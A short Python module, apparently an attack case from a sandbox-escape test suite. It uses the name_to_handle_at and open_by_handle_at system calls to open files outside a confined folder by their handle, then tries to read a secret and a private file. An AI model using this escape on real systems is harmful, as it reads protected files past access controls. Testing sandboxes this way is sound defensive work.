"""Success: a file outside, opened by its handle, past every path."""

import ctypes
import os

from kit import libc, system_call, tries


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def read(path, door):
    handle = Handle(128)
    mount = ctypes.c_int()
    system_call(
        "name_to_handle_at", -100, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0
    )
    # Any descriptor on the same file system will do, such as one in the own folder.
    fd = system_call("open_by_handle_at", os.open(door, os.O_RDONLY), ctypes.byref(handle), 0)
    return os.read(fd, 4096).decode()


def attack(a):
    return tries(
        lambda: read(a["secret_file"], "."),
        lambda: read(a["secret_file"], "/"),
        lambda: read(a["private_file"], os.path.dirname(os.__file__)),
    )
